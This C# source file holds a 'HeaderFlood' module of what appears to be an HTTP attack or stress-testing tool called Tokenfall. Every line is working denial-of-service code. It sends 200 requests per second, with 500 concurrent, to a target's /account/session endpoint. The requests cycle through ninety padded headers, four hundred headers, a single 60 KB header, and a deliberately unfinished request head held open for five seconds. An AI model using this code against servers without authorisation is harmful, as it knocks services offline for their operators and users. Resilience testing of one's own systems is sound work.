namespace Tokenfall.Attacks.Floods;

/// <summary>Headers: as many and as large as are taken, more of them, larger ones, and some that never end.</summary>
internal sealed class HeaderFlood : IFlood
{
    private static readonly TimeSpan Hold = TimeSpan.FromSeconds(5);

    public string Name => "headers";

    public string Title => "anonymous: headers";

    public string Description => "90 headers of 300 bytes; 400 headers; one of 60 KB; and half a head, then silence for 5 s";

    public int PerSecond => 200;

    public int AtOnce => 500;

    public Task PrepareAsync(Victim victim) => Task.CompletedTask;

    public Task<string> StepAsync(Victim victim, int number, CancellationToken cancellationToken)
    {
        var head = (number % 4) switch
        {
            0 => HttpText.Head("GET /account/session", ["Connection: close", .. Headers(90, 290)]),
            1 => HttpText.Head("GET /account/session", Headers(400, 20)),
            2 => HttpText.Head("GET /account/session", Headers(1, 60_000)),
            _ => HttpText.Head("GET /account/session", Headers(50, 100))[..^2],
        };
        return victim.SendRawAsync([head], Hold, cancellationToken);
    }

    private static IEnumerable<string> Headers(int count, int length) => Enumerable.Range(0, count).Select(number => $"X-{number}: {new string('h', length)}");
}
